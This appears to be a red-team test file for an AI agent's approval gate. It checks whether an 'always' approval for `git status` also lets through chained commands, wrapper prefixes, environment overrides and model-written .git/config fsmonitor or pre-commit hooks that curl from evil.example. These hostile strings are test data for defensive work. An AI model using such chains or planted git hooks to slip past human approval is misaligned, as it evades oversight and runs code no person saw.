/**
 * Red team: what an "always" lets through later (gate step 9, src/approval/scopes.ts) against what the
 * prompt said it would ("every exec command that starts `git status`, whatever follows"), with the real
 * shell guard, the real allowlist table and the terminal approver. Nothing here executes a command: every
 * call goes through `gate.check` only.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { createApprovalGate, type ApprovalGate } from '../../src/approval/gate.ts';
import { defaultConfig, type Config } from '../../src/config/schema.ts';
import { builtinTools } from '../../src/daemon/daemon-tools.ts';
import { createGuard } from '../../src/guard/index.ts';
import { systemGatePorts, systemGuardDeps } from '../../src/util/system-ports.ts';
import { allowlistStore } from '../../src/store/allowlist.ts';
import { buildContext } from '../../src/tools/context.ts';
import { catalogLookup } from '../../src/tools/facts.ts';
import { recordingTerminal } from '../support/approval-screens.ts';
import { useTestDatabase } from '../support/db.ts';

const database = useTestDatabase();
const workspace = mkdtempSync(join(tmpdir(), 'echo-rt-always-'));
const config = (): Config => defaultConfig({ tools: { profile: 'full', workspace } });
const alice = () => buildContext({ channel: 'cli', user_id: 'alice', session_key: 'cli:alice' });

let gate: ApprovalGate;
let t: ReturnType<typeof recordingTerminal>;
/** Each screen's answer: "always" for the first `git status` and `git commit`, "no" to everything else. */
const answers = (screen: string) => (/"command": "git (status|commit -m wip)"\n/.test(screen) && t.screens.filter((s) => s === screen).length === 1 ? 'a' : 'n');

beforeAll(async () => {
  const db = database().db;
  const cfg = config();
  t = recordingTerminal(db, cfg, builtinTools(cfg, { db }), (screen) => answers(screen));
  gate = createApprovalGate(cfg, { ...systemGatePorts, guard: createGuard(cfg, systemGuardDeps({ dns: false })), allowlist: allowlistStore(db), lookupTool: catalogLookup(cfg), humanApprover: t.approver });
  const first = await gate.check({ tool: 'exec', args: { command: 'git status' } }, alice());
  expect(first).toMatchObject({ outcome: 'allow', step: 11, rule: 'approval.human.always', approval_source: 'human' });
  expect(t.screens[0]).toContain('"always" would also allow, from now on and without asking: every exec command that starts `git status`, whatever follows and whatever the files it runs then hold');
  const commit = await gate.check({ tool: 'exec', args: { command: 'git commit -m wip' } }, alice());
  expect(commit).toMatchObject({ outcome: 'allow', step: 11, rule: 'approval.human.always' });
});

const exec = (command: string) => gate.check({ tool: 'exec', args: { command } }, alice());

describe('"always" for `git status`', () => {
  it('held: lets through what it said it would (git status with other arguments), without asking', async () => {
    for (const command of ['git status', 'git status --short', 'git status -- src']) {
      expect(await exec(command), command).toMatchObject({ outcome: 'allow', step: 9, approval_source: 'auto' });
    }
  });

  it.each([
    'git status; rm -rf build',
    'git status && curl -fsS https://example.com/x -o x',
    'git status || touch ~/owned',
    'git status | sh',
    'git status | tee ~/.bashrc',
    'git status $(touch owned)',
    'git status `touch owned`',
    'sudo git status',
    'doas git status',
    'env git status',
    'env -i PATH=/tmp/evil git status',
    'xargs git status',
    'timeout 5 git status',
    'nohup git status',
    'busybox git status',
    'bash -c "git status"',
    "git -c core.fsmonitor='touch owned' status",
    "git -c core.pager='touch owned' status",
    'git -c core.pager=less status',
    'GIT_DIR=/tmp/evil/.git git status',
    'GIT_CONFIG_GLOBAL=/tmp/evil.cfg git status',
    'git --exec-path=/tmp/evil status',
    'HOME=/tmp/evil git status',
  ])('held: `%s` still asks a person', async (command) => {
    const asked = t.screens.length;
    const d = await exec(command);
    expect(d.step, `${command}: ${d.rule}`).not.toBe(9);
    expect(d.outcome === 'deny' || t.screens.length === asked + 1, `${command}: ${d.outcome} at step ${d.step} (${d.rule})`).toBe(true);
  });
});

/** A git config a model can write with a WRITE tool (attended step 5: nobody is asked). */
const FSMONITOR_CONFIG = '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = curl -fsS https://evil.example/x -o /tmp/x\n';

describe('code a git command runs that the person approving it is never shown', () => {
  it.each([
    ['.git/config', FSMONITOR_CONFIG],
    ['sub/.git/config', FSMONITOR_CONFIG],
    ['.git/hooks/pre-commit', '#!/bin/sh\ncurl -fsS https://evil.example/x -o /tmp/x\n'],
  ])('I3: write_file to %s (code git runs on the next status/commit) is allowed without asking anyone', async (path, content) => {
    const d = await gate.check({ tool: 'write_file', args: { path, content } }, alice());
    expect(d.outcome === 'allow' && d.step === 5, `write_file ${path}: ${d.outcome} at step ${d.step} (${d.rule}), flagged ${JSON.stringify(d.flagged.map((f) => f.rule))}`).toBe(false);
  });

  it('I3: after "always git status", a model-written .git/config makes `git status` (and `git -C dir status`) run its fsmonitor command with nobody asked', async () => {
    const before = t.screens.length;
    const write = await gate.check({ tool: 'write_file', args: { path: 'sub/.git/config', content: FSMONITOR_CONFIG } }, alice());
    const status = await exec('git -C sub status');
    const plain = await exec('git status');
    const decisions = [write, status, plain].map((d) => `${d.tool}: ${d.outcome} step ${d.step} ${d.rule}`);
    // every step of the chain passed on policy; the one person who answered saw `git status`, and nothing of the config
    const shownSince = t.screens.slice(before).join('\n');
    expect(decisions.every((d) => d.includes('allow')) && !shownSince.includes('fsmonitor'), decisions.join('; ')).toBe(false);
  });
});
